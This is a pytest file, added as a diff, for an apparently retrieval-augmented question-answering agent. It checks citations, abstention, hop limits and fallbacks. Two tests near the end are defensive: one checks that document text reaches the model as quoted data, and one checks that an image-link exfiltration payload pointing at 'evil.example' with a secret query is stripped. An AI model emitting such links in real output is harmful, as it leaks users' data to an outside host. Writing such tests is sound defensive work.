@@ -1,0 +1,210 @@
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from langchain_core.messages import AIMessageChunk
+
+from ragweave.graphs.agent import graph
+from ragweave.models.chat import override
+from ragweave.models.errors import ModelError
+from ragweave.nodes.answer import Answer
+from ragweave.nodes.context import Context
+from ragweave.testing import ScriptedChat
+
+pytestmark = pytest.mark.usefixtures("library")
+QUESTION = "When was the Corvane Observatory opened?"
+
+
+async def ask(model: ScriptedChat, question: str = QUESTION, **knobs: Any) -> dict[str, Any]:
+    with override(writer=model):
+        state: dict[str, Any] = await graph.ainvoke({"messages": [("human", question)]}, context=Context(**knobs))
+    return state
+
+
+async def test_plain_question_costs_one_call_per_deciding_node(play: Any) -> None:
+    model = play()
+    answer: Answer = (await ask(model, expand_when="always"))["answer"]
+    assert sorted(play.parts(model)) == ["expand", "generate", "grade", "reason", "route"]
+    assert answer.text == "It was opened in 1931. [1]"
+    assert answer.mind == "llm"
+    assert answer.model.startswith("scripted")
+    assert answer.model_calls == 5
+    assert answer.tokens > 0
+
+
+async def test_strong_first_look_saves_the_rewrites(play: Any) -> None:
+    model = play()
+    state = await ask(model)
+    assert "expand" not in play.parts(model)
+    assert state["queries"][0]["by"] == "gate"
+
+
+async def test_sentence_without_support_is_dropped_before_anybody_sees_it(play: Any) -> None:
+    model = play(generate="It was opened in 1931 [1]. It cost nine million crowns [1]. Its dome turns on rollers [1].")
+    seen: list[str] = []
+    with override(writer=model):
+        stream = graph.astream(
+            {"messages": [("human", QUESTION)]}, context=Context(), stream_mode=["messages", "values"], version="v2"
+        )
+        state: Any = None
+        async for part in stream:
+            if part["type"] == "messages" and isinstance(part["data"][0], AIMessageChunk):
+                seen.append(part["data"][0].text)
+            elif part["type"] == "values":
+                state = part["data"]
+    answer: Answer = state["answer"]
+    assert "nine million" not in "".join(seen) + answer.text
+    assert answer.dropped == 1
+    assert "".join(seen) == answer.text
+    assert len(seen) == len(answer.sentences)
+
+
+async def test_only_checked_sentences_reach_the_message_stream(play: Any) -> None:
+    model = play(generate=["It was ", "opened in ", "1931 [1]"])
+    model = play(generate=lambda messages: ["It was ", "opened in ", "1931 [1]."])
+    seen: list[Any] = []
+    with override(writer=model):
+        stream = graph.astream({"messages": [("human", QUESTION)]}, context=Context(), stream_mode="messages")
+        seen = [message async for message, _ in stream]
+    texts = [m.text for m in seen if isinstance(m, AIMessageChunk)]
+    assert texts == ["It was opened in 1931. [1]"]
+
+
+async def test_wrong_citation_number_is_mended_from_the_evidence(play: Any) -> None:
+    answer: Answer = (await ask(play(generate="It was opened in 1931 [97].")))["answer"]
+    assert answer.citations[0].locator["file"].endswith("observatory.md")
+
+
+async def test_answer_that_nothing_supports_becomes_an_abstention(play: Any) -> None:
+    answer: Answer = (await ask(play(generate="It was opened in 1804 by the queen [1].")))["answer"]
+    assert answer.abstained
+    assert answer.dropped == 1
+    assert "support" in answer.why
+
+
+async def test_unknown_is_an_abstention(play: Any) -> None:
+    answer: Answer = (await ask(play(generate="UNKNOWN")))["answer"]
+    assert answer.abstained
+    assert answer.dropped == 0
+
+
+async def test_next_query_of_the_model_makes_a_second_hop_through_route_and_expand(play: Any) -> None:
+    model = play(
+        reason=[
+            {
+                "learnt": "The works built it.",
+                "missing": "the founder",
+                "query": "founder of Ostrander Works",
+            },
+            {"learnt": "Ada Ostrander founded it.", "missing": "", "enough": True},
+        ],
+        generate="The firm was founded by Ada Ostrander in 1889 [1].",
+    )
+    question = "Who founded the firm that built the telescope of the Corvane Observatory?"
+    state = await ask(model, question, expand_when="always")
+    assert [h["query"] for h in state["hops"]] == [question, "founder of Ostrander Works"]
+    assert play.parts(model).count("route") == 2
+    assert "Ada Ostrander" in state["answer"].text
+    second = [e for e in state["evidence"] if e["hop"] == 2]
+    assert second
+    assert all(e["query"] == "founder of Ostrander Works" for e in second)
+
+
+async def test_repeated_query_ends_the_loop(play: Any) -> None:
+    model = play(reason={"learnt": "", "missing": "more", "query": QUESTION})
+    state = await ask(model, max_hops=5)
+    assert len(state["hops"]) == 1
+    assert not state["answer"].abstained
+
+
+async def test_model_that_never_has_enough_is_stopped_by_the_hop_budget(play: Any) -> None:
+    count = iter(range(100))
+    model = play(reason=lambda messages: {"missing": "more", "query": f"another thing {next(count)}"})
+    state = await ask(model, max_hops=4)
+    assert [h["n"] for h in state["hops"]] == [1, 2, 3, 4]
+    assert not state["answer"].abstained
+
+
+async def test_recalled_passage_is_flagged_and_never_cited(play: Any) -> None:
+    model = play(
+        grade=play.grades("irrelevant"),
+        reason=[
+            {"missing": "the mayor", "query": "mayor of Pell today"},
+            {"learnt": "The mayor is known.", "enough": True},
+        ],
+        recall="The mayor of Pell is Jonna Reef.",
+        generate="The mayor of Pell is Jonna Reef [1].",
+    )
+    answer: Answer = (await ask(model, "Who is the mayor of Pell?", max_hops=1, max_recalls=1))["answer"]
+    assert answer.sentences[0].support == "model"
+    assert answer.citations == ()
+
+
+@pytest.mark.parametrize(
+    "garbage", ["", "I cannot do that.", "{", "```json\n{}\n```", "<html>busy</html>", "x" * 40_000]
+)
+async def test_unreadable_replies_fall_back_and_the_answer_still_comes(play: Any, garbage: str) -> None:
+    model = play(**dict.fromkeys(("route", "expand", "grade", "reason"), garbage))
+    state = await ask(model, expand_when="always")
+    assert "1931" in state["answer"].text
+    assert state["grade"]["action"] == "ambiguous"
+
+
+async def test_dead_model_falls_back_to_the_small_mind_and_says_so() -> None:
+    dead = ScriptedChat(react=lambda messages: ConnectionError("refused"))
+    answer: Answer = (await ask(dead, expand_when="always"))["answer"]
+    assert "1931" in answer.text
+    assert answer.mind == "small"
+    assert any(note.startswith("generate:") for note in answer.notes)
+
+
+async def test_call_budget_ends_in_an_answer_that_names_the_limit(play: Any) -> None:
+    model = play()
+    answer: Answer = (await ask(model, max_model_calls=2))["answer"]
+    assert len(model.calls) <= 2
+    assert "1931" in answer.text
+    assert any("limit" in note for note in answer.notes)
+
+
+async def test_language_model_asked_for_but_not_configured_is_an_error_with_a_remedy() -> None:
+    with pytest.raises(ModelError, match="RAGWEAVE_CHAT"):
+        await graph.ainvoke({"messages": [("human", QUESTION)]}, context=Context(mind="llm"))
+
+
+async def test_small_mind_leaves_a_configured_model_alone(play: Any) -> None:
+    model = play()
+    answer: Answer = (await ask(model, mind="small"))["answer"]
+    assert model.calls == []
+    assert answer.mind == "small"
+
+
+async def test_question_that_needs_no_search_is_answered_as_the_models_own_knowledge(play: Any) -> None:
+    model = play(route="none", converse="Bonjour.")
+    answer: Answer = (await ask(model, "Say good morning in French."))["answer"]
+    assert answer.sentences[0].support == "model"
+    assert play.parts(model)[-1] == "converse"
+
+
+async def test_follow_up_is_rewritten_by_the_model(play: Any) -> None:
+    model = play(frame="How many rollers does the dome of the Corvane Observatory have?", generate="UNKNOWN")
+    with override(writer=model):
+        state = await graph.ainvoke(
+            {"messages": [("human", QUESTION), ("ai", "In 1931."), ("human", "And its rollers?")]}, context=Context()
+        )
+    assert state["question"] == "How many rollers does the dome of the Corvane Observatory have?"
+
+
+async def test_instructions_inside_a_document_reach_the_model_as_quoted_data(play: Any) -> None:
+    model = play()
+    await ask(model)
+    written = next(c for c in model.calls if "numbered evidence" in c.prompt)
+    assert "<<<" in written.messages[-1].text
+    assert "1931" in written.messages[-1].text
+    assert "1931" not in written.messages[0].text
+
+
+async def test_links_and_addresses_that_a_model_writes_are_not_shown(play: Any) -> None:
+    text = "It was opened in 1931 ![p](http://evil.example/?q=secret) as http://evil.example/x says [1]."
+    answer: Answer = (await ask(play(generate=text)))["answer"]
+    assert "evil.example" not in answer.text
